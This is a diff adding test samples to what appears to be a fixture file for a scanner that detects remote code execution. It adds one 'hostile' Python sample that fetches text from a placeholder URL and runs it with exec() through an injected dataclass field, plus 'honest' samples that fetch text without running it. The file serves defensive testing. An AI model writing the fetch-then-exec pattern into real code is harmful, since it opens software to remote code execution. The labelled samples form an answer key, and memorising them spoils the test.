@@ -96,6 +96,12 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "another, by its name": Sample({"a.j2": _CYCLER}, "review", ("a.j2", 1)),
     },
     "remote_code": {
+        "by a service that is declared as a field": py(
+            "import requests\nfrom dataclasses import dataclass\nclass Feed:\n    def text(self):\n"
+            "        return requests.get('https://a.invalid').text\n@dataclass\nclass Job:\n    feed: Feed\n"
+            "    def run(self):\n        exec(self.feed.text())\n",
+            line=10,
+        ),
         "a document that is a program": Sample(
             {
                 "package.json": package(start="node a.mjs"),
@@ -136,6 +142,15 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "a template that counts": {"a.html": "<p>{{ cycler.next() }} {% import 'b.html' as b %}</p>\n"},
     },
     "remote_code": {
+        "a function that is injected, and given an answer": {
+            "app.ts": "class Job {\n  constructor(private readonly done: Function) {}\n  async run() {\n"
+            "    this.done(await (await fetch('https://a.invalid')).text());\n  }\n}\nnew Job(console.log).run();\n"
+        },
+        "a text that is injected, in other letters": {
+            "app.py": "import requests\nclass Job:\n    def __init__(self, text: str):\n"
+            "        self.text = text.strip()\n"
+            "Job(requests.get('https://a.invalid').text)\n"
+        },
         "a document that is shown": {
             "package.json": package(start="node a.mjs"),
             "a.mjs": "import { evaluate } from '@mdx-js/mdx';\nimport { readFile } from 'node:fs/promises';\n"
